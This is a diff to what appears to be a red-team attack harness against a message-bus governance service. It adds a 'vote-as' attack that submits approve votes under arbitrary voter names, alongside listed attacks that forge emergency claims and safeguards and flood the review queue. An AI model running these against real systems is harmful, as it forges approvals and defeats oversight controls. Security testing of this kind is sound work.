@@ -16,6 +16,8 @@ Attacks:
                                incident ids for TYPE, for the coming SECONDS
   claims                       submits an emergency type, a declared emergency, priority 9 and
                                ten minutes of work
+  vote-as PROPOSAL NAME...     votes approve under each NAME on the plain subject (run it as the
+                               operator: USER_NAME / USER_PASSWORD)
   flood-reviews COUNT BYTES    submits COUNT tier-0 intents with BYTES of payload each, to make
                                the review list larger than the server carries
 """
@@ -162,7 +164,19 @@ async def claims(nc, errors, _args):
     return {"answers": answers, "errors": errors}
 
 
+async def vote_as(nc, errors, args):
+    proposal, names = args[0], args[1:]
+    answers = {}
+    for name in names:
+        body = {"proposal_id": proposal, "voter": name, "vote": "approve"}
+        reply = await nc.request("unified_logic.vote", json.dumps(body).encode(), timeout=10)
+        data = json.loads(reply.data)
+        answers[name] = data.get("error", {}).get("code") or data.get("state")
+    return {"answers": answers, "errors": errors}
+
+
 ATTACKS = {
+    "vote-as": vote_as,
     "claims": claims,
     "flood-reviews": flood_reviews,
     "forge-safeguard": forge_safeguard,
